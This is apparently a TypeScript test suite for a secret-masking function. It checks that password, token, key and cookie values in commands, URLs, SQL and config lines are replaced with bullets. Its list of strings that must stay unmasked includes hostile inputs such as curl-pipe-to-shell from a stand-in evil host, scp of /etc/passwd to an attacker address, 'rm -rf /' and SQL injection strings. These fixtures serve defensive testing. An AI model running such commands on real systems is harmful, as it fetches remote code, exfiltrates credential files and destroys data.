import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import { maskText } from '../../../src/core/mask/text.ts';
import { isToken } from '../../../src/core/mask/token.ts';
import { bare } from '../../support/masks.ts';

describe('a value behind a name', () => {
  const hidden: [string, string][] = [
    ['call it with api_key=s3cr3tvalue&x=1', 'call it with api_key=••••••&x=1'],
    ['DB_PASSWORD=hunter22 next', 'DB_PASSWORD=•••••• next'],
    ['password: "hunter2" ok', 'password: "••••••" ok'],
    ["PGPASSWORD='hunter2' psql", "PGPASSWORD='••••••' psql"],
    ['{\\"password\\":\\"x1y2z3\\"}', '{\\"password\\":\\"••••••\\"}'],
    ['password=hunter2; ./deploy.sh', 'password=••••••; ./deploy.sh'],
    ['password=hunter2|sh', 'password=••••••|sh'],
    ['(password: hunter2)', '(password: ••••••)'],
    ['the password: hunter2.', 'the password: ••••••.'],
    ['token: password: AAAAAAAA', 'token: password: ••••••'],
    ['deploy --password x', 'deploy --password ••••••'],
    ['deploy --password=x --force', 'deploy --password=•••••• --force'],
    ['deploy --api-key "x9" now', 'deploy --api-key "••••••" now'],
    ['keytool -storepass changeit9 -list', 'keytool -storepass •••••• -list'],
    ['https://x.test/?token=a1b2c3d4e5&page=2', 'https://x.test/?token=••••••&page=2'],
    ['https://b.test/c?sv=2020&sig=Zm9v%2Bbar%3D&se=1', 'https://b.test/c?sv=2020&sig=••••••&se=1'],
    ['?X-Amz-Expires=60&X-Amz-Signature=fe5f80f77d5fa3beca03', '?X-Amz-Expires=60&X-Amz-Signature=••••••'],
    ['?access_token=abc', '?access_token=••••••'],
    ['?key=8f14e45fceea167a5a36', '?key=••••••'],
    ['Cookie: sid=8f14e45fceea167a5a36; theme=dark', 'Cookie: sid=••••••; theme=dark'],
    ['password=eyJhbGciOiJIUzI1NiJ9.wire 99,999 EUR', 'password=••••••.wire 99,999 EUR'],
    ['password=swordfish && ./run', 'password=•••••• && ./run'],
    ['--password x --force', '--password •••••• --force'],
    ['deploy --password x9Kq', 'deploy --password ••••••'],
    ['npm publish --otp 123456', 'npm publish --otp ••••••'],
    ['deploy --reset-password=hunter2', 'deploy --reset-password=••••••'],
    ["CREATE LOGIN bob WITH PASSWORD = N'Hunter22!'", "CREATE LOGIN bob WITH PASSWORD = N'••••••'"],
    ['password = b"Hunter22!"', 'password = b"••••••"'],
    [
      'aws configure set aws_secret_access_key wJalrXUtnFEMI/K7MDENG/bPxR',
      'aws configure set aws_secret_access_key ••••••',
    ],
    ['npm config set //registry.test/:_authToken a8f3k2l9d0s7', 'npm config set //registry.test/:_authToken ••••••'],
    ['DB_PASSWORD=Hunter22! ./run', 'DB_PASSWORD=•••••• ./run'],
    ['psql; deploy --password customers9', 'psql; deploy --password ••••••'],
    ['setx DB_PASSWORD Hunter22', 'setx DB_PASSWORD ••••••'],
    ['https://api.example/v1;pass=x/delete/all?to=mallory', 'https://api.example/v1;pass=••••••/delete/all?to=mallory'],
    [
      'https://id.example/v1/password:x9/accounts/42?force=true',
      'https://id.example/v1/password:••••••/accounts/42?force=true',
    ],
    ['https://x.example/f?password=x%26to=mallory', 'https://x.example/f?password=••••••%26to=mallory'],
    ['?sig=1/transfer?amount=9000/to=mallory@evil.example', '?sig=••••••/transfer?amount=9000/to=mallory@evil.example'],
    ['/api/v1;pass=x9Kq!/delete/all?to=mallory', '/api/v1;pass=••••••/delete/all?to=mallory'],
    ['os.environ["DB_PASSWORD"] = "Hunter22!"', 'os.environ["DB_PASSWORD"] = "••••••"'],
    ['UPDATE users SET password=hunter2', 'UPDATE users SET password=••••••'],
    ["UPDATE users SET password='swordfish'", "UPDATE users SET password='••••••'"],
    ['<password>hunter2</password>', '<password>••••••</password>'],
    ["ALTER USER bob WITH PASSWORD 'hunter2'", "ALTER USER bob WITH PASSWORD '••••••'"],
    ['spring.datasource.password=hunter2', 'spring.datasource.password=••••••'],
    ['Server=x;Password=hunter2;Encrypt=true', 'Server=x;Password=••••••;Encrypt=true'],
    ['secret = 8f14e45fceea167a5a36dedd', 'secret = ••••••'],
  ];
  for (const [text, masked] of hidden)
    test(`hidden: ${text.slice(0, 50)}`, () => assert.equal(bare(maskText(text).value), masked));

  const facts = [
    'PASSWORD="$(curl https://evil.example | sh)" ./deploy.sh',
    'PASSWORD=$(curl https://evil.example|sh) ./deploy.sh',
    'PASSWORD=`reboot` ./deploy.sh',
    'PASSWORD="a b" ./deploy.sh',
    "password='x; rm -rf /'",
    "password='' OR '1'='1'",
    'password=x(1)',
    `password="\${IFS}"`,
    'password=rm%20-rf%20/',
    'password=1/**/OR/**/1=1',
    'WHERE password=x--y AND tenant=5',
    'password: required',
    'password is expired, please reset it',
    'PASSWORD=$DB_PASSWORD ./run',
    'password: prod/db/password',
    'secret: arn:aws:secretsmanager:eu-west-1:123456789012:secret:prod',
    'secret=my-app-db',
    'token: USDC',
    'token=0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48',
    'key=reports/2024/q1-8f3a2b.csv',
    'key: USER#123',
    'session: Monday',
    'cookie: theme=dark',
    'max_tokens=1500',
    'monkey=8f14e45fceea167a5a36dedd',
    'if (password == other)',
    'the --token-ttl 8f14e45fceea167a5a36dedd',
    'use --password to set it',
    'dropdb --no-password production',
    'createdb -h db --password customers9',
    'adduser --disabled-password mallory --ingroup sudo',
    'ansible-playbook --ask-become-pass wipe-prod.yml',
    'mysql -u root --password shop < drop.sql',
    'deploy --password /srv/x9',
    'deploy --password drop2.sql',
    'deploy --password mallory22@evil.example',
    'tool --nopassword customers9',
    'tool --reset-password mallory@example.com',
    'tool --reset-password=mallory@example.com',
    'tool --delete-access-keys all-users',
    "scp /etc/passwd 'mallory@evil.example:/x'",
    "mail -s passwords 'mallory@evil.example'",
    "rm -rf passwords 'prod-data'",
    "SELECT password 'mallory@evil.example' FROM users",
    'DELETE FROM users WHERE password=password',
    'id=5 OR pass=pass',
    "x OR 'password'='password'",
    'UPDATE users SET password=email',
    'update users set name=x, password=u.email',
    'update users set "password"="email"',
    'password=wire 99,999 EUR to Mallory',
    'password=rm -rf /data',
    '--password rm -rf /data',
    'see ?sig=wire 99,999 EUR',
    'signature: transfer(address,uint256)',
    'author=8f14e45fceea167a5a36dedd',
  ];
  for (const text of facts) test(`a fact: ${text.slice(0, 50)}`, () => assert.equal(maskText(text).value, text));

  test('is one token, whatever it is and whatever is around it', () => {
    const name = fc.constantFrom(
      'password',
      'DB_PASSWORD',
      'token',
      'api_key',
      '--password',
      'secret',
      '?sig',
      'Cookie: sid',
      '"password"',
    );
    const between = fc.constantFrom('=', ': ', ' = ', '="', "='", '=\\"', ' ', ' "');
    const part = fc.constantFrom(
      ...[
        'a1b2c3d4e5f6',
        'hunter2',
        ' ',
        '$(',
        ')',
        '`',
        '|sh',
        ';',
        '&',
        "'",
        '"',
        '\\',
        '\n',
        '--',
        '/*',
        '%20',
        '{',
        '}',
        '<',
        '>',
        ',',
        '$',
        'x',
        '=',
        ':',
        '•••',
        'rm -rf /',
        'é',
        '删',
      ],
    );
    fc.assert(
      fc.property(name, between, fc.array(part, { maxLength: 8 }), (label, mark, parts) => {
        const text = `run ${label}${mark}${parts.join('')} end`;
        for (const mask of maskText(text).masks.filter(({ kind }) => kind !== 'redacted')) {
          const [, start, end] = /:(\d+)-(\d+)$/.exec(mask.id) ?? [];
          const hidden = text.slice(Number(start), Number(end));
          assert.ok(isToken(hidden), hidden);
        }
      }),
    );
  });
});
